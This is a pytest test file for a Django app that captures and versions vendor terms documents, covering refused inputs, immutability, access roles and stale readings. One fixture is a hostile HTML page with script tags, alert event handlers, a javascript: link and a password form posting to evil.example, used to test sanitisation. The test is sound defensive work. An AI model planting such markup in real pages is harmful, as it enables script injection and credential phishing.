"""Bringing text in: what is kept, what is refused, and what a new version does to the readings that cite it."""

from __future__ import annotations

from typing import Any

import pytest
from django.db import Error, transaction

from governance.accounts.access import Actor
from governance.accounts.models import User
from governance.audit.models import Event
from governance.blobs import store
from governance.errors import Invalid, NotAllowed
from tests.cast import AsActor
from tests.factories.vendors import (
    OWNERSHIP_SENTENCE,
    TERMS,
    make_approved,
    make_document,
    make_draft,
    newest_text,
)
from vendors.domain.terms import CaptureSource, DocumentVisibility
from vendors.models import CanonicalText, Capture, TermsDocument, TermsVersion, Tier
from vendors.services import consequences
from vendors.services.captures import Captured, capture_document
from vendors.services.documents import end_link

HOSTILE = """<!doctype html><html><head><title>Terms</title><style>body{background:url(https://evil.example/c.png)}</style>
<script>document.title="stolen"</script></head><body onload="alert(1)">
<h1>Terms <img src="https://evil.example/t.gif" onerror="alert(2)"></h1>
<form action="https://evil.example/login"><input name="password"></form>
<p>The Customer owns the Output.</p><p>The parties agree that this agreement is subject to the laws of Ireland.</p>
<p>Each party must keep the records of the other confidential and may not disclose them.</p><iframe src="https://evil.example/"></iframe>
<p><a href="javascript:alert(3)">Read more</a></p></body></html>"""


def capture(actor: Actor, document: TermsDocument, text: str | bytes, **values: Any) -> Captured:
    data = text.encode() if isinstance(text, str) else text
    given: dict[str, Any] = {"media_type": "text/markdown", "source": CaptureSource.PASTE, **values}
    return capture_document(actor=actor, document=document, data=data, **given)


def test_other_bytes_are_a_new_version_and_the_old_ones_a_new_capture(drafter: Actor, terms: TermsDocument) -> None:
    second = capture(drafter, terms, TERMS.replace("may not be", "is hardly"))
    back = capture(drafter, terms, TERMS)
    assert (second.new, second.version.number, second.capture.sequence) == (True, 2, 2)
    assert (back.new, back.version.number, back.capture.sequence) == (False, 1, 3)
    assert store.get(back.version.blob) == TERMS.encode()
    assert terms.versions.count() == 2


@pytest.mark.parametrize(
    ("data", "media_type", "name"),
    [
        (b"", "text/plain", "terms.txt"),
        (b" \n\t ", "text/plain", "terms.txt"),
        (b"Terms\x00and more", "text/plain", "terms.txt"),
        (b"%PDF-1.7 ...", "application/pdf", "terms.pdf"),
        (b"PK\x03\x04....", "application/octet-stream", "terms.docx"),
        (b"\x89PNG\r\n\x1a\n" + bytes(range(256)), "image/png", "terms.png"),
        (b"x" * 5_000_001, "text/plain", "terms.txt"),
        (b"<html><script>only()</script></html>", "text/html", "terms.html"),
    ],
    ids=["empty", "blank", "nul", "pdf", "word", "image", "huge", "nothing-but-script"],
)
def test_what_is_no_readable_text_is_refused_in_words_and_leaves_nothing(
    data: bytes, media_type: str, name: str, drafter: Actor, terms: TermsDocument
) -> None:
    before = Event.objects.count()
    with pytest.raises(Invalid) as refused:
        capture(drafter, terms, data, media_type=media_type, source=CaptureSource.UPLOAD, source_name=name)
    assert len(refused.value.problems["file"][0]) > 20
    assert (terms.versions.count(), terms.captures.count(), Event.objects.count()) == (1, 1, before)


def test_the_text_of_a_hostile_page_is_words_only(drafter: Actor, terms: TermsDocument) -> None:
    version = capture(drafter, terms, HOSTILE, media_type="text/html").version
    text = version.texts.get().text
    assert "The Customer owns the Output." in text
    for trace in ("script", "alert", "evil.example", "onload", "password", "javascript", "<"):
        assert trace not in text, trace
    assert store.get(version.blob) == HOSTILE.encode()


def test_captures_versions_and_texts_never_change(drafter: Actor, terms: TermsDocument) -> None:
    for rows, change in (
        (TermsVersion.objects, {"number": 9}),
        (CanonicalText.objects, {"text": "Other words."}),
        (Capture.objects, {"source_name": "other"}),
    ):
        with pytest.raises(Error), transaction.atomic():
            rows.update(**change)
        with pytest.raises(Error), transaction.atomic():
            rows.all().delete()


@pytest.mark.parametrize("who", ["requester", "engineering_owner", "auditor", "outsider", "administrator"])
def test_nobody_but_counsel_captures(
    who: str, request: pytest.FixtureRequest, terms: TermsDocument, as_actor: AsActor
) -> None:
    with pytest.raises(NotAllowed):
        capture(as_actor(request.getfixturevalue(who)), terms, "Other words.")
    assert terms.captures.count() == 1


def test_a_reading_whose_quote_is_gone_becomes_stale(
    drafter: Actor, checker: Actor, business: Tier, terms: TermsDocument
) -> None:
    reading = make_approved(drafter, checker, business, terms)
    capture(drafter, terms, TERMS.replace("Customer owns the Output, if any", "Larkspur owns the Output"))
    reading.refresh_from_db()
    assert reading.stale
    assert OWNERSHIP_SENTENCE in reading.stale_reason
    assert Event.objects.filter(action="assessment.marked-stale", subject_uid=reading.uid).exists()


def test_a_reading_whose_quote_stands_is_to_be_confirmed(
    drafter: Actor, checker: Actor, business: Tier, terms: TermsDocument
) -> None:
    reading = make_approved(drafter, checker, business, terms)
    capture(drafter, terms, TERMS + "\nThe Service may change at any time.\n")
    reading.refresh_from_db()
    assert (reading.stale, reading.to_be_confirmed) == (False, True)


def test_a_draft_is_left_alone(drafter: Actor, business: Tier, terms: TermsDocument) -> None:
    draft = make_draft(drafter, business, document=terms)
    capture(drafter, terms, "Quite other words.")
    draft.refresh_from_db()
    assert not draft.stale


def test_a_new_text_that_governs_nothing_and_that_nobody_cites_is_weighed_and_asks_for_nothing(
    drafter: Actor, terms: TermsDocument
) -> None:
    end_link(actor=drafter, link=terms.links.get())
    capture(drafter, terms, "Quite other words.")
    assert Event.objects.filter(action="version.weighed").count() == 1
    assert not terms.change_reviews.exists()


def test_the_reason_of_a_stale_reading_says_nothing_of_a_contract(
    drafter: Actor, checker: Actor, business: Tier
) -> None:
    secret = "Larkspur pays whatever it costs."
    contract = make_document(drafter, business, secret, title="Side letter", visibility=DocumentVisibility.CONTRACT)
    reading = make_approved(drafter, checker, business, contract, exact=secret)
    capture(drafter, contract, "Larkspur pays nothing.")
    reading.refresh_from_db()
    assert reading.stale
    assert secret not in reading.stale_reason and "Side letter" not in reading.stale_reason


def test_higher_floors_are_told_of_a_new_version_inside_the_deed(
    drafter: Actor,
    checker: Actor,
    business: Tier,
    terms: TermsDocument,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    told: list[Any] = []

    def handler(**what: Any) -> None:
        told.append((what["review"].newest.number, [row.pk for row in what["touched"]]))
        raise Invalid("Something above refuses.")

    monkeypatch.setattr(consequences, "_changes", (handler,))
    reading = make_approved(drafter, checker, business, terms)
    with pytest.raises(Invalid):
        capture(drafter, terms, "Quite other words.")
    reading.refresh_from_db()
    assert told == [(2, [reading.pk])]
    assert not reading.stale
    assert newest_text(terms).version.number == 1


def test_counsel_by_name_only_is_not_enough(counsel: User, terms: TermsDocument) -> None:
    anonymous = Actor(user=counsel, via="token")
    with pytest.raises(NotAllowed):
        capture(anonymous, terms, "Other words.")
